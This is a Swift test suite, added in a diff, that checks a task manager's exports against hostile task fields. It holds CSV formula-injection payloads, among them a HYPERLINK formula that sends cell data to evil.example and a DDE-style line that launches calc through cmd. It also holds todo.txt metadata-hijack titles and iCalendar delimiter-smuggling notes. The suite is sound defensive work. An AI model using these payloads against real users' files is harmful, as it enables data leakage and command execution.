@@ -1,0 +1,189 @@
+import Foundation
+import Testing
+
+/// Titles and fields written to attack the programs that open an export: spreadsheet
+/// formulas, todo.txt metadata, iCalendar delimiters. Every format's file is inert there, and
+/// every format `import` reads gives back the same tasks.
+@Suite struct HostileExportRoundTripTests {
+    static let titles = [
+        #"=HYPERLINK("http://evil.example/?"&A1,"Click")"#,
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd",
+        "-2+3",
+        "'=already quoted",
+        "x 2020-01-01 fake +hijack @ctx due:1999-01-01",
+        "(A) 2020-01-01 pri:C rec:1w UID:abc Due:2030-01-01 \\+escaped \\\\double",
+        "BEGIN:VTODO; a, b \"quoted\" END:VCALENDAR",
+        "Meet at 10:30 t:2026-12-01 a+b c@d",
+    ]
+
+    /// One task per title; some with notes, tags and projects that are hostile too.
+    static var seed: String {
+        titles.enumerated().map { index, title in
+            var record: [String: Any] = ["title": title, "uuid": String(format: "00000000-0000-4000-8000-%012ld", index),
+                                         "status": index == 5 ? "done" : "pending",
+                                         "created": "2026-11-30T09:00:00+03:00", "modified": "2026-11-30T09:00:00+03:00"]
+            if index == 5 { record["completed"] = "2026-12-01T12:00:00+03:00"; record["modified"] = "2026-12-01T12:00:00+03:00" }
+            if index % 2 == 0 {
+                record["notes"] = "=1+1\nEND:VTODO\r\nBEGIN:VEVENT"
+                record["tags"] = ["-minus", "=eq", "@at"]
+                record["project"] = "+plus"
+                record["due_date"] = "2026-12-0\(index % 9 + 1)"
+            }
+            return String(decoding: try! JSONSerialization.data(withJSONObject: record, options: [.sortedKeys]), as: UTF8.self)
+        }.joined(separator: "\n") + "\n"
+    }
+
+    let helper = ExportRoundTripTests()
+
+    func seeded() throws -> TaskDraftBinary {
+        let td = try TaskDraftBinary()
+        let path = td.directory.appendingPathComponent("hostile.jsonl").path
+        try Self.seed.write(toFile: path, atomically: true, encoding: .utf8)
+        let result = try td.run(["import", path, "--yes"])
+        #expect(result.status == 0, "\(result.stderr)")
+        return td
+    }
+
+    /// The fields a format carries, task by task, from `export --format json`.
+    func fields(_ td: TaskDraftBinary, db: String, _ keys: [String]) throws -> [[String: String]] {
+        let tasks = try JSONSerialization.jsonObject(with: Data(try helper.export(td, "json", db: db).utf8)) as! [[String: Any]]
+        return tasks.map { task in
+            Dictionary(uniqueKeysWithValues: keys.map { ($0, task[$0].map { "\($0)" } ?? "nil") })
+        }.sorted { $0["title"]! < $1["title"]! }
+    }
+
+    @Test(arguments: [("json", "export.json"), ("jsonl", "export.jsonl"), ("csv", "export.csv"),
+                      ("taskwarrior", "taskwarrior.json"), ("todotxt", "todo.txt")])
+    func exportImportExportKeepsHostileTasks(format: String, file: String) throws {
+        let td = try seeded()
+        defer { td.remove() }
+        let first = try helper.export(td, format, db: td.databasePath)
+        let other = try helper.roundTrip(td, format, file: file, from: td.databasePath, into: "other.db")
+        let second = try helper.export(td, format, db: other)
+        if format == "todotxt" {
+            #expect(first.split(separator: "\n").sorted() == second.split(separator: "\n").sorted())
+        } else {
+            #expect(second == first)
+        }
+        // What the format carries comes back field for field: todo.txt has no notes or uids,
+        // and Taskwarrior keeps a day as a time stamp.
+        let keys: [String]
+        switch format {
+        case "todotxt": keys = ["title", "status", "priority", "project", "tags", "due", "due_date"]
+        case "taskwarrior": keys = ["title", "notes", "status", "priority", "project", "tags", "uuid"]
+        default: keys = ["title", "notes", "status", "priority", "project", "tags", "due", "due_date", "uuid", "completed"]
+        }
+        #expect(try fields(td, db: other, keys) == (try fields(td, db: td.databasePath, keys)))
+    }
+
+    /// RFC 4180 cells, row by row: what a spreadsheet sees.
+    static func cells(_ csv: String) -> [[String]] {
+        var rows: [[String]] = [], row: [String] = [], cell = "", quoted = false, wasQuoted = false
+        var characters = csv.unicodeScalars.makeIterator()
+        var pending = characters.next()
+        while let c = pending {
+            pending = characters.next()
+            if quoted {
+                if c == "\"" {
+                    if pending == "\"" { cell.unicodeScalars.append(c); pending = characters.next() } else { quoted = false }
+                } else {
+                    cell.unicodeScalars.append(c)
+                }
+                continue
+            }
+            switch c {
+            case "\"" where cell.isEmpty && !wasQuoted: quoted = true; wasQuoted = true
+            case ",": row.append(cell); cell = ""; wasQuoted = false
+            case "\r" where pending == "\n": break
+            case "\n": row.append(cell); rows.append(row); row = []; cell = ""; wasQuoted = false
+            default: cell.unicodeScalars.append(c)
+            }
+        }
+        return rows
+    }
+
+    @Test func noCSVCellStartsLikeAFormula() throws {
+        let td = try seeded()
+        defer { td.remove() }
+        let rows = Self.cells(try helper.export(td, "csv", db: td.databasePath))
+        #expect(rows.count == Self.titles.count + 1)
+        for cell in rows.joined() {
+            #expect(cell.unicodeScalars.first.map { !"=+-@\t\r".unicodeScalars.contains($0) } ?? true, "\(cell.debugDescription)")
+        }
+        let titles = rows.dropFirst().map { $0[0] }
+        #expect(titles.contains(#"'=HYPERLINK("http://evil.example/?"&A1,"Click")"#))
+        #expect(titles.contains("''=already quoted"))
+        #expect(titles.contains("'-2+3"))
+        #expect(rows.dropFirst().contains { $0[3] == "'-minus =eq @at" && $0[4] == "'+plus" && $0[5].hasPrefix("'=1+1") })
+    }
+
+    @Test func aForeignCSVKeepsItsLeadingQuotes() throws {
+        let td = try TaskDraftBinary()
+        defer { td.remove() }
+        let path = td.directory.appendingPathComponent("other.csv").path
+        try "title,notes\n'=kept,'+kept too\n".write(toFile: path, atomically: true, encoding: .utf8)
+        #expect(try td.run(["import", path, "--yes"]).status == 0)
+        let tasks = try td.json(["list", "--json"]) as! [[String: Any]]
+        #expect(tasks.first?["title"] as? String == "'=kept")
+        #expect(tasks.first?["notes"] as? String == "'+kept too")
+    }
+
+    @Test func todoTxtTitlesDoNotReparseAsMetadata() throws {
+        let td = try seeded()
+        defer { td.remove() }
+        let todo = try helper.export(td, "todotxt", db: td.databasePath)
+        #expect(todo.contains(" x 2020-01-01 fake \\+hijack \\@ctx \\due:1999-01-01"))
+        let other = try helper.roundTrip(td, "todotxt", file: "todo.txt", from: td.databasePath, into: "b.db")
+        let tasks = try JSONSerialization.jsonObject(with: Data(try helper.export(td, "json", db: other).utf8)) as! [[String: Any]]
+        let hijack = try #require(tasks.first { ($0["title"] as? String)?.hasPrefix("x 2020") == true })
+        #expect(hijack["title"] as? String == Self.titles[5])
+        #expect(hijack["status"] as? String == "done", "done in the seed too")
+        #expect(hijack["project"] as? String == nil && hijack["due"] as? String == nil && hijack["due_date"] as? String == nil)
+        #expect((hijack["tags"] as? [Any])?.isEmpty != false)
+        let escaped = try #require(tasks.first { ($0["title"] as? String)?.hasPrefix("(A)") == true })
+        #expect(escaped["title"] as? String == Self.titles[6])
+        #expect(escaped["priority"] as? String == "normal")
+    }
+
+    static let icalendar = FileManager.default.fileExists(atPath: "/usr/lib/python3/dist-packages/icalendar/__init__.py")
+
+    /// Parsed by the python3-icalendar package: one VTODO per task, text fields exact (minus
+    /// the control characters iCalendar TEXT cannot hold), nothing spilled into new properties.
+    @Test(.enabled(if: HostileExportRoundTripTests.icalendar, "needs python3-icalendar")) func icsReparsesWithARealICalendarLibrary() throws {
+        let td = try seeded()
+        defer { td.remove() }
+        let path = td.directory.appendingPathComponent("tasks.ics").path
+        #expect(try td.run(["export", "status:all", "-o", path]).status == 0)
+        let script = """
+            import icalendar, json, sys
+            cal = icalendar.Calendar.from_ical(open(sys.argv[1], 'rb').read())
+            out = []
+            for todo in cal.walk('VTODO'):
+                cats = todo.get('CATEGORIES')
+                out.append({'summary': str(todo.get('SUMMARY')), 'description': str(todo.get('DESCRIPTION', '')),
+                            'categories': [str(c) for c in cats.cats] if cats is not None else [],
+                            'project': str(todo.get('X-TASKDRAFT-PROJECT', ''))})
+            print(json.dumps({'todos': out, 'events': len(cal.walk('VEVENT'))}))
+            """
+        let process = Process()
+        process.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
+        process.arguments = ["-c", script, path]
+        let pipe = Pipe()
+        process.standardOutput = pipe
+        try process.run()
+        let data = pipe.fileHandleForReading.readDataToEndOfFile()
+        process.waitUntilExit()
+        #expect(process.terminationStatus == 0)
+        let parsed = try JSONSerialization.jsonObject(with: data) as! [String: Any]
+        #expect(parsed["events"] as? Int == 0, "no VEVENT smuggled in through the notes")
+        let todos = parsed["todos"] as! [[String: Any]]
+        // python3-icalendar 4.0 unescapes twice: the file's `\\\\` (RFC 5545 for two backslashes)
+        // comes back as one.
+        #expect(Set(todos.map { $0["summary"] as! String }) == Set(Self.titles.map { $0.replacingOccurrences(of: "\\\\", with: "\\") }))
+        let withNotes = todos.filter { !($0["description"] as! String).isEmpty }
+        #expect(withNotes.count == 5)
+        #expect(withNotes.allSatisfy { $0["description"] as? String == "=1+1\nEND:VTODO\nBEGIN:VEVENT" })
+        #expect(withNotes.allSatisfy { $0["categories"] as? [String] == ["-minus", "=eq", "@at"] && $0["project"] as? String == "+plus" })
+    }
+}
